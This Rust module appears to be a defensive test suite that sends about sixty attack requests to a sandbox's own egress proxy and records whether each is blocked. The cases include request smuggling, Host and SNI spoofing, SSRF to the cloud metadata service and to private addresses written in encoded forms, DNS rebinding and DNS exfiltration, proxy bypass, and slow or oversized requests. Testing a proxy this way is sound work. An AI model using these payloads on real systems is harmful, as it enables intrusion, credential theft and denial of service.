//! Attacks by requests to the proxy.
//!
//! `files.example.com` is allowed on two ports and shares its host with `vault.example.com`, which is not allowed. An
//! attack that receives the secret of a vault prints it, and has thereby succeeded.

use std::io::{Read, Write};
use std::net::{TcpStream, UdpSocket};
use std::time::Duration;

use super::Run;
use super::hello::{hello, hidden, in_two_records};
use crate::attack::Verdict;

const PROXY: &str = "127.0.0.1:18081";
const PATIENCE: Duration = Duration::from_secs(5);
/// How long a slow client tries to keep its connection.
const HELD: Duration = Duration::from_secs(3);
const HUGE: usize = 6 << 20;

/// Attacks that bypass the proxy.
pub(super) const DIRECT: [&str; 4] = ["proxy_no_proxy", "proxy_no_proxy_6", "proxy_dns_datagram", "proxy_dns_stream"];

/// Name, description and function of each attack.
pub(super) const ATTACKS: &[(&str, &str, Run)] = &[
    ("proxy_unlisted_connect", "open a tunnel to a host that is not listed", |_| {
        tunnel("vault.example.com:443", &hello(&["vault.example.com"]))
    }),
    ("proxy_unlisted_get", "ask for a page of one", |_| get("http://vault.example.com/", "vault.example.com")),
    ("proxy_unlisted_socks", "reach one by SOCKS5", |_| socks(1, b"vault.example.com", 443)),
    ("proxy_unlisted_port", "open a tunnel to a port that is not listed", |_| {
        tunnel("files.example.com:22", b"SSH-2.0-x\r\n")
    }),
    ("proxy_longer_name", "a listed name as the beginning of another", |_| {
        tunnel("files.example.com.vault.example.com:443", &hello(&["vault"]))
    }),
    ("proxy_vendor", "call a model vendor past the gateway, where a rule lists it", |_| {
        tunnel("api.openai.com:443", &hello(&["api.openai.com"]))
    }),
    ("proxy_raw_tunnel", "speak another protocol through a tunnel to a listed host", |_| {
        tunnel("files.example.com:443", b"SSH-2.0-x\r\n")
    }),
    ("proxy_plain_tunnel", "speak plain HTTP through it", |_| {
        tunnel("files.example.com:443", b"GET / HTTP/1.1\r\nHost: vault.example.com\r\n\r\n")
    }),
    ("proxy_sni_other", "ask for another server by TLS than by CONNECT", |_| {
        tunnel("files.example.com:443", &hello(&["vault.example.com"]))
    }),
    ("proxy_sni_none", "ask for no server by TLS, and get the host's first", |_| {
        tunnel("files.example.com:443", &hello(&[]))
    }),
    ("proxy_sni_two", "ask for two servers at once", |_| {
        tunnel("files.example.com:443", &hello(&["files.example.com", "vault.example.com"]))
    }),
    ("proxy_sni_split", "spread the other name over two records", |_| {
        tunnel("files.example.com:443", &in_two_records("vault.example.com"))
    }),
    ("proxy_sni_hidden", "hide the other name (ECH)", |_| {
        tunnel("files.example.com:443", &hidden("files.example.com", "vault.example.com"))
    }),
    ("proxy_sni_socks", "ask for another server by TLS than by SOCKS5", |_| {
        socks_and(b"files.example.com", 443, &hello(&["vault.example.com"]))
    }),
    ("proxy_fronting", "name another host in the Host header than in the target", |_| {
        get("http://files.example.com/", "vault.example.com")
    }),
    ("proxy_host_twice", "give the Host header twice", |_| {
        get("http://files.example.com/", "files.example.com\r\nHost: vault.example.com")
    }),
    ("proxy_host_line_feed", "hide a Host header behind a bare line feed", |_| {
        get("http://files.example.com/", "files.example.com\r\nX: y\nHost: vault.example.com")
    }),
    ("proxy_host_folded", "hide one in a folded line", |_| {
        get("http://files.example.com/", "files.example.com\r\nX: y\r\n Host: vault.example.com")
    }),
    ("proxy_smuggle_cl_te", "smuggle a request by a length and chunks at once", |_| {
        post("Content-Length: 60\r\nTransfer-Encoding: chunked", "0\r\n\r\n")
    }),
    ("proxy_smuggle_te_space", "the same with a space before the colon", |_| {
        post("Transfer-Encoding : chunked", "0\r\n\r\n")
    }),
    ("proxy_smuggle_te_other", "the same with an unknown transfer coding", |_| {
        post("Transfer-Encoding: xchunked", "0\r\n\r\n")
    }),
    ("proxy_smuggle_lengths", "smuggle a request by two lengths", |_| {
        post("Content-Length: 0\r\nContent-Length: 60", "")
    }),
    ("proxy_smuggle_behind", "send a second request behind the first", |_| post("Content-Length: 0", "")),
    ("proxy_h2c", "switch to HTTP/2 in the clear", |_| {
        post("Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk", "")
    }),
    ("proxy_websocket", "switch to another protocol", |_| post("Connection: Upgrade\r\nUpgrade: websocket", "")),
    ("proxy_address", "name an address that is not listed", |_| get("http://203.0.113.66/", "203.0.113.66")),
    ("proxy_address_decimal", "name it in decimal", |_| get("http://3405803842/", "3405803842")),
    ("proxy_address_hexadecimal", "name it in hexadecimal", |_| get("http://0xcb007142/", "0xcb007142")),
    ("proxy_address_octal", "name it in octal", |_| get("http://0313.0.0161.0102/", "0313.0.0161.0102")),
    ("proxy_address_short", "name it in three numbers", |_| get("http://10.9.2313/", "10.9.2313")),
    ("proxy_private", "name a private address", |_| get("http://10.9.9.9/", "10.9.9.9")),
    ("proxy_metadata", "ask the metadata service for the machine's credentials", |_| {
        get("http://169.254.169.254/latest", "169.254.169.254")
    }),
    ("proxy_gateway", "open a tunnel to the gateway", |_| tunnel("127.0.0.1:18080", &hello(&[]))),
    ("proxy_control_api", "ask the control API", |_| get("http://127.0.0.1:2468/v1/sessions", "127.0.0.1:2468")),
    ("proxy_loopback_6", "name the loopback in IPv6", |_| get("http://[::1]/", "[::1]")),
    ("proxy_mapped", "name a private IPv4 address in an IPv6 one", |_| {
        get("http://[::ffff:10.9.9.9]/", "[::ffff:10.9.9.9]")
    }),
    ("proxy_name_private", "a listed name of a private address", |_| {
        get("http://inner.example.com/", "inner.example.com")
    }),
    ("proxy_name_private_6", "a listed name of a private IPv6 address", |_| {
        get("http://six.example.com/", "six.example.com")
    }),
    ("proxy_name_mapped", "a listed name of an IPv4 address in an IPv6 one", |_| {
        get("http://mapped.example.com/", "mapped.example.com")
    }),
    ("proxy_name_metadata", "a listed name of the metadata service", |_| {
        get("http://meta.example.com/", "meta.example.com")
    }),
    ("proxy_name_loopback", "a listed name of the loopback", |_| get("http://loop.example.com/", "loop.example.com")),
    ("proxy_name_own", "a listed name of the host's own public address", |_| {
        get("http://own.example.com/", "own.example.com")
    }),
    ("proxy_rebinding", "a listed name that becomes a private address once it is judged", |_| {
        Verdict::any((0..4).map(|_| get("http://rebind.example.com/", "rebind.example.com")))
    }),
    ("proxy_redirect", "be sent to a host that is not listed by one that is", |_| redirected()),
    ("proxy_userinfo", "a listed name as a user's", |_| {
        get("http://files.example.com@vault.example.com/", "files.example.com")
    }),
    ("proxy_backslash", "a backslash that some take for a slash", |_| {
        get("http://vault.example.com\\@files.example.com/", "files.example.com")
    }),
    ("proxy_percent", "a host in percent-encoding", |_| get("http://vault%2eexample%2ecom/", "vault%2eexample%2ecom")),
    ("proxy_trailing_dot", "a host with a dot at its end", |_| get("http://vault.example.com./", "vault.example.com.")),
    ("proxy_nul", "end a host early by a NUL byte", |_| socks(1, b"vault.example.com\0.cdn.example.com", 443)),
    ("proxy_path", "climb out of the path that is listed", |_| {
        get("http://paths.example.com/public/../vault", "paths.example.com")
    }),
    ("proxy_path_encoded", "the same in percent-encoding", |_| {
        get("http://paths.example.com/public/%2e%2e/vault", "paths.example.com")
    }),
    ("proxy_path_slashes", "the same by two slashes", |_| get("http://paths.example.com//vault", "paths.example.com")),
    ("proxy_method", "use a method that is not listed", |_| {
        say(b"DELETE http://paths.example.com/public/vault HTTP/1.1\r\nHost: paths.example.com\r\n\r\n")
    }),
    ("proxy_dns_name", "carry data out in a name to be looked up", |_| {
        tunnel("loot.vault.example.com:443", &hello(&["loot.vault.example.com"]))
    }),
    ("proxy_dns_datagram", "ask a name server directly", |_| datagram("203.0.113.66:53")),
    ("proxy_dns_stream", "ask one over TCP", |_| direct("203.0.113.66:53")),
    ("proxy_no_proxy", "connect without the proxy (`--noproxy`)", |_| direct("203.0.113.66:80")),
    ("proxy_no_proxy_6", "the same over IPv6", |_| direct("[fd00::9]:80")),
    ("proxy_socks_datagram", "have datagrams relayed by SOCKS5", |_| socks(3, b"vault.example.com", 53)),
    ("proxy_socks_listen", "have a port opened by SOCKS5", |_| socks(2, b"files.example.com", 443)),
    ("proxy_slow", "hold a connection by a request that never ends", |_| slow()),
    ("proxy_huge", "fill the proxy's memory by a head that never ends", |_| huge()),
];

/// Reads until the other side closes or is quiet, and prints the data.
pub(super) fn hear(mut stream: TcpStream) -> String {
    let mut heard = Vec::new();
    let _ = stream.set_read_timeout(Some(PATIENCE));
    let _ = stream.read_to_end(&mut heard);
    let text = String::from_utf8_lossy(&heard).into_owned();
    println!("{text}");
    text
}

pub(super) fn to_proxy() -> TcpStream {
    TcpStream::connect(PROXY).expect("the sandbox's own listener")
}

/// Sends a request to the proxy, and prints the answer. The answer shows whether the request passed.
pub(super) fn say(bytes: &[u8]) -> Verdict {
    let mut stream = to_proxy();
    let sent = stream.write_all(bytes);
    let heard = hear(stream);
    Verdict::Blocked(format!("{sent:?}, {}", heard.lines().next().unwrap_or("nothing")))
}

pub(super) fn get(url: &str, host: &str) -> Verdict {
    say(format!("GET {url} HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes())
}

/// Returns a request with ambiguous length headers, and a request for the vault behind it.
pub(super) fn post(headers: &str, body: &str) -> Verdict {
    let hidden = "GET /vault HTTP/1.1\r\nHost: vault.example.com\r\n\r\n";
    say(format!(
        "POST http://files.example.com/ HTTP/1.1\r\nHost: files.example.com\r\n{headers}\r\n\r\n{body}{hidden}"
    )
    .as_bytes())
}

pub(super) fn tunnel(to: &str, first: &[u8]) -> Verdict {
    let mut stream = to_proxy();
    stream.write_all(format!("CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n").as_bytes()).expect("say");
    let mut answer = [0; 12];
    if stream.read_exact(&mut answer).is_err() || !answer.ends_with(b" 200") {
        return Verdict::Blocked(String::from_utf8_lossy(&answer).into_owned());
    }
    let sent = stream.write_all(first);
    let heard = hear(stream);
    Verdict::Blocked(format!("{sent:?}, {} bytes", heard.len()))
}

fn socks(command: u8, host: &[u8], port: u16) -> Verdict {
    let (reply, stream) = ask_socks(command, host, port);
    if command != 1 {
        return Verdict::when(reply == Some(0), format!("{reply:?}"));
    }
    if let Some(mut stream) = stream.filter(|_| reply == Some(0)) {
        let _ = stream.write_all(&hello(&["vault.example.com"]));
        hear(stream);
    }
    Verdict::Blocked(format!("{reply:?}"))
}

fn socks_and(host: &[u8], port: u16, first: &[u8]) -> Verdict {
    let (reply, stream) = ask_socks(1, host, port);
    let Some(mut stream) = stream.filter(|_| reply == Some(0)) else { return Verdict::Blocked(format!("{reply:?}")) };
    let sent = stream.write_all(first);
    let heard = hear(stream);
    Verdict::Blocked(format!("{sent:?}, {} bytes", heard.len()))
}

fn ask_socks(command: u8, host: &[u8], port: u16) -> (Option<u8>, Option<TcpStream>) {
    let mut stream = to_proxy();
    let length = u8::try_from(host.len()).expect("a short name");
    let asked = [&[5, 1, 0, 5, command, 0, 3, length], host, &port.to_be_bytes()].concat();
    let mut reply = [0; 12];
    let heard = stream.write_all(&asked).and_then(|()| stream.read_exact(&mut reply));
    (heard.ok().map(|()| reply[3]), Some(stream))
}

/// Follows a redirect by a second request.
fn redirected() -> Verdict {
    let mut stream = to_proxy();
    stream.write_all(b"GET http://files.example.com/moved HTTP/1.1\r\nHost: files.example.com\r\n\r\n").expect("say");
    let heard = hear(stream);
    let Some(to) = heard.lines().find_map(|line| line.to_lowercase().strip_prefix("location: ").map(str::to_owned))
    else {
        return Verdict::Blocked(format!("not sent anywhere: {heard}"));
    };
    get(&to, "vault.example.com")
}

fn direct(address: &str) -> Verdict {
    let address = address.parse().expect("address");
    match TcpStream::connect_timeout(&address, PATIENCE) {
        Ok(mut stream) => {
            let sent = stream.write_all(b"GET / HTTP/1.1\r\nHost: loot\r\n\r\n");
            hear(stream);
            Verdict::Blocked(format!("{sent:?}"))
        }
        Err(error) => Verdict::Blocked(error.to_string()),
    }
}

fn datagram(address: &str) -> Verdict {
    let socket = UdpSocket::bind("0.0.0.0:0").expect("socket");
    socket.set_read_timeout(Some(PATIENCE)).expect("socket");
    match socket.send_to(b"loot", address).and_then(|_| socket.recv(&mut [0; 16])) {
        Ok(_) => Verdict::Succeeded("the name server answered".into()),
        Err(error) => Verdict::Blocked(error.to_string()),
    }
}

fn slow() -> Verdict {
    let mut stream = to_proxy();
    stream.write_all(b"GET http://files.example.com/ HTTP/1.1\r\nHost:").expect("say");
    stream.set_read_timeout(Some(HELD)).expect("socket");
    match stream.read(&mut [0; 64]) {
        Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => Verdict::Succeeded("still held".into()),
        ended => Verdict::Blocked(format!("{ended:?}")),
    }
}

fn huge() -> Verdict {
    let mut stream = to_proxy();
    stream.write_all(b"GET http://files.example.com/ HTTP/1.1\r\nX: ").expect("say");
    let line = vec![b'a'; 64 << 10];
    for sent in (0..HUGE).step_by(line.len()) {
        if let Err(error) = stream.write_all(&line) {
            return Verdict::Blocked(format!("after {sent} bytes: {error}"));
        }
    }
    Verdict::Succeeded(format!("{HUGE} bytes of one head were taken"))
}
